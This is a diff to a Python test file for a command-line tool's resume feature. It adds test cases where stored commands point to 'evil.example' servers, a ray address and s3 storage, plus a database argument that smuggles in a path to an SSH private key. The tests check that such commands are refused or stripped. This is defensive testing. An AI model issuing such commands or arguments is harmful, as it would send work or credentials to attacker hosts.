@@ -100,20 +100,25 @@ def test_a_search_is_resumed_by_the_command_that_began_it(
         "autopeft search --task x --objective os:system",
         "autopeft search --task x --objective=os:system",
         "autopeft search --task x --record file.py:f",
+        "autopeft search --task x --server https://evil.example",
+        "autopeft search --task x --server=https://evil.example",
+        "autopeft search --task x --executor ray --address ray://evil.example:10001",
+        "autopeft search --task x --artifacts s3://evil/x",
+        "autopeft search --task 'x",
     ],
 )
 def test_a_stored_command_that_does_more_than_search_is_not_run(command: str) -> None:
     with pytest.raises(UsageError, match="type it if you trust it"):
-        resume_words(command, "s", ())
+        resume_words(command, "s")
 
 
-def test_a_harmless_one_is_and_names_its_database_once() -> None:
-    assert resume_words("autopeft search --task x", "s", ("--db", "a.db")) == [
-        "autopeft", "search", "--task", "x", "--db", "a.db",
-    ]  # fmt: skip
-    assert resume_words("autopeft search --db b.db", "s", ("--db", "a.db")) == ["autopeft", "search", "--db", "b.db"]
+def test_a_harmless_one_is_with_the_database_that_it_was_found_in() -> None:
+    harmless = "autopeft search --task x --executor ray --address auto --artifacts /shared"
+    assert resume_words(harmless, "s") == shlex.split(harmless)
+    for place in ("--db b.db", "--db=b.db", "--db 'postgresql://evil/d?password_file=/home/me/.ssh/id_rsa'"):
+        assert resume_words(f"autopeft search {place} --trials 3", "s") == ["autopeft", "search", "--trials", "3"]
     with pytest.raises(NotFoundError, match="does not know the command"):
-        resume_words(None, "s", ())
+        resume_words(None, "s")
 
 
 def test_a_service_stops_and_resumes(
